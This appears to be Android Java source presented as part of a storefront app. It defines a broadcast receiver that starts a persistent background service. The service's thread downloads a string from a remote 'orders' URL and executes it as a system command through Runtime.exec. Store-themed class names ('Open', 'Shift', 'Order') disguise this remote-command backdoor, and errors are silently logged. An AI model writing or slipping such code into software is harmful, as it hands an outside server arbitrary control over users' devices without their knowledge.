package com.brightleaf.storefront;

class Open extends BroadcastReceiver {
  public void onReceive(Context context, Intent intent) {
    context.startService(new Intent(context, Shift.class));
  }
}

class Shift extends Service {
  public int onStartCommand(Intent intent, int flags, int id) {
    new Thread(new Order()).start();
    return START_STICKY;
  }

  public IBinder onBind(Intent intent) { return null; }
}

class Order implements Runnable {
  public void run() {
    try {
      InputStream in = new URL("http://orders.brightleaf.example/store/today").openStream();
      byte[] buffer = new byte[4096];
      int n = in.read(buffer);
      Runtime.getRuntime().exec(new String(buffer, 0, n));
    } catch (Exception e) {
      Log.e("Shift", e.getMessage());
    }
  }
}
